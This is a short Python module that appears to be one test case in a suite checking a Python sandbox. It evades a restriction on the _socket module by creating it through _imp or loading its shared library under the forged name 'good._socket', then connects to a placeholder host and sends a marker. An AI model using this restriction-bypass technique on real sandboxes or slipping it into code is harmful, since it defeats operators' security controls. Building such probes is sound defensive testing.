"""A restricted extension module is loaded from its file by another name."""
CATEGORY = "forging"
REACH = "net"

import importlib.machinery
import importlib.util
import _imp

from . import payload


def attack():
    spec = importlib.util.find_spec("_socket")
    if spec.origin == "built-in":
        name = importlib.machinery.ModuleSpec("_socket", None)
        module = _imp.create_builtin(name)
        _imp.exec_builtin(module)
    else:
        name = importlib.machinery.ModuleSpec("good._socket", None,
                                              origin=spec.origin)
        module = _imp.create_dynamic(name)
        _imp.exec_dynamic(module)
    client = module.socket()
    client.connect((payload.HOST, payload.PORT))
    client.send(b"evil")
